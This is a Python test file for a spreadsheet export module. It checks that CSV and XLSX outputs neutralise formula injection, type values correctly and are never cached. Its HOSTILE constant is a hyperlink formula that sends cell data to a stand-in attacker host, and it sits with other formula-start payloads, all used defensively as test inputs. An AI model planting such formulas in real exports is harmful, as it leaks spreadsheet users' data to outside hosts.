"""The one export module: formula-safe CSV, typed XLSX, never cached."""

import contextlib
import csv
import datetime as dt
import io
from decimal import Decimal

from openpyxl import load_workbook

from worldclass.core import exports
from worldclass.core.exports import Table, csv_lines, csv_response, to_xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'
FORMULA_TEXTS = [HOSTILE, "+SUM(1,2)", "-2+3", "@cmd", "\t=1+1", "\r=1+1"]


def _csv_cells(table: Table) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(csv_lines(table)).removeprefix("\ufeff"))))


def _sheet(table: Table):
    return load_workbook(io.BytesIO(to_xlsx(table))).active


def test_csv_neutralizes_every_formula_start():
    table = Table(title="t", columns=["value"], rows=[[text] for text in FORMULA_TEXTS])
    assert [row[0] for row in _csv_cells(table)[1:]] == ["'" + text for text in FORMULA_TEXTS]


def test_csv_keeps_numbers_and_negative_numbers_as_they_are():
    table = Table(title="t", columns=["a", "b", "c", "d"], rows=[[-12.5, 3, "-4", None]])
    assert _csv_cells(table)[1] == ["-12.5", "3", "-4", ""]


def test_csv_starts_with_a_byte_order_mark_for_excel():
    assert next(csv_lines(Table(title="t", columns=["Nom"], rows=[]))) == "\ufeffNom\r\n"


def test_csv_for_a_command_has_no_byte_order_mark_and_stays_formula_safe():
    lines = csv_lines(Table(title="t", columns=["name"], rows=[[HOSTILE]]), byte_order_mark=False)
    assert "".join(lines) == f'name\r\n"\'{HOSTILE.replace(chr(34), chr(34) * 2)}"\r\n'


def test_xlsx_stores_formula_like_text_as_quoted_text():
    sheet = _sheet(Table(title="t", columns=["value"], rows=[[text] for text in FORMULA_TEXTS]))
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        (text.replace("\r", "\n") if text.startswith("\r") else text, "s", True) for text in FORMULA_TEXTS
    ]


def test_xlsx_types_numbers_dates_and_booleans():
    row = [3, 2.5, Decimal("1.25"), True, dt.date(2025, 1, 31), dt.datetime(2025, 1, 31, 9, 30), "text"]
    sheet = _sheet(Table(title="t", columns=list("abcdefg"), rows=[row]))
    (cells,) = sheet.iter_rows(min_row=2)
    assert [(c.value, c.data_type, c.is_date) for c in cells] == [
        (3, "n", False),
        (2.5, "n", False),
        (1.25, "n", False),
        (True, "b", False),
        (dt.datetime(2025, 1, 31), "d", True),
        (dt.datetime(2025, 1, 31, 9, 30), "d", True),
        ("text", "s", False),
    ]


def test_xlsx_has_a_frozen_bold_header_and_fitted_widths():
    sheet = _sheet(Table(title="Leaderboard", columns=["Code", "Name"], rows=[["C1", "A rather long name indeed"]]))
    assert (
        sheet.title,
        sheet.freeze_panes,
        [c.font.b for c in sheet[1]],
        sheet.column_dimensions["A"].width,
        sheet.column_dimensions["B"].width,
    ) == ("Leaderboard", "A2", [True, True], 6, 27)


def test_xlsx_drops_characters_a_spreadsheet_cannot_hold():
    sheet = _sheet(Table(title="t", columns=["comment"], rows=[["bell\x07 and nul\x00"]]))
    assert sheet["A2"].value == "bell and nul"


def test_xlsx_leaves_a_non_finite_number_empty():
    sheet = _sheet(Table(title="t", columns=["rate"], rows=[[float("nan")]]))
    assert sheet["A2"].value is None


def test_downloads_are_never_cached():
    response = csv_response(Table(title="t", columns=["a"], rows=[]), filename="a b.csv")
    assert (response["Cache-Control"], response["Content-Disposition"]) == (
        "no-store",
        'attachment; filename="a b.csv"',
    )


def test_a_streamed_csv_sends_a_small_first_block_then_full_blocks(monkeypatch):
    monkeypatch.setattr(exports, "CSV_ROWS_FIRST_BLOCK", 2)
    monkeypatch.setattr(exports, "CSV_ROWS_PER_BLOCK", 3)
    table = Table(title="t", columns=["n"], rows=([n] for n in range(7)))
    response = csv_response(table, filename="n.csv", stream_within=contextlib.nullcontext())
    lines_per_block = [block.decode("utf-8-sig").count("\r\n") for block in response.streaming_content]
    # The header with 2 rows, then blocks of 3, then the rest.
    assert lines_per_block == [3, 3, 2]
